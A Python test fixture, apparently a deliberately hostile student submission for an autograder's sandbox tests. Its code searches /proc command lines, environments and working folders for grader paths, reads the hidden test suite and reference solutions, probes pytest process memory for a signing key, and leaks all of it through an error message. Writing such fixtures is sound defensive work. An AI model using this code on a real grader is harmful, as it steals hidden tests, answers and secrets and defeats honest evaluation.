# Hostile: hunts for the hidden suite and the reference solutions and hands back their text in
# its error message, which lands in the feedback. It looks where a student who has read our
# code would look: the grader's paths on other processes' command lines and environments in
# /proc, their working folders, the repository (REPO, filled in by the test: an attacker
# guesses it), and the memory of the pytest process, which holds the signing key.
import glob
import os

REPO = "__REPO__"
WORDS = ("grader", "hidden", "netlings", "solutions", "site-packages")


def _candidates():
    paths = {REPO, os.path.join(REPO, "grader", "hidden"), os.path.join(REPO, "solutions")}
    for name in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(name, "rb") as f:
                data = f.read()
        except OSError:
            continue
        for arg in data.replace(b"=", b"\0").replace(b":", b"\0").split(b"\0"):
            text = arg.decode("utf-8", "replace")
            if text.startswith("/") and any(w in text for w in WORDS):
                paths.update({text, os.path.dirname(text)})
    for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root"):
        try:
            paths.add(os.readlink(link))
        except OSError:
            pass
    return sorted(p for p in paths if p not in ("/", "/usr", "/proc"))


def _loot():
    found = {}
    for base in _candidates():
        for pattern in ("**/*_hidden.py", "solutions/*/*.py", "*/*.py", "*.py"):
            for path in sorted(glob.glob(os.path.join(base, pattern), recursive=True))[:40]:
                if path.startswith("/netlings/") or not any(w in path for w in WORDS):
                    continue  # the stdlib, or the harness's child.py: the one file of the grader it shows
                try:
                    with open(path, encoding="utf-8") as f:
                        found[path] = f.read(2000)
                except (OSError, UnicodeDecodeError):
                    pass
    for mem in glob.glob("/proc/[0-9]*/mem"):
        try:
            with open(mem.replace("/mem", "/cmdline"), "rb") as f:
                if b"pytest" not in f.read():
                    continue  # its own box's processes hold nothing of the grader's
            with open(mem, "rb"):
                found[mem] = "opened"
        except OSError:
            pass
    return {k: v for k, v in found.items() if not os.path.samefile(k, __file__)}


def to_bytes(text):
    loot = _loot()
    raise RuntimeError("leak report: " + repr(sorted(loot)) + "\n" + "\n".join(loot.values()))
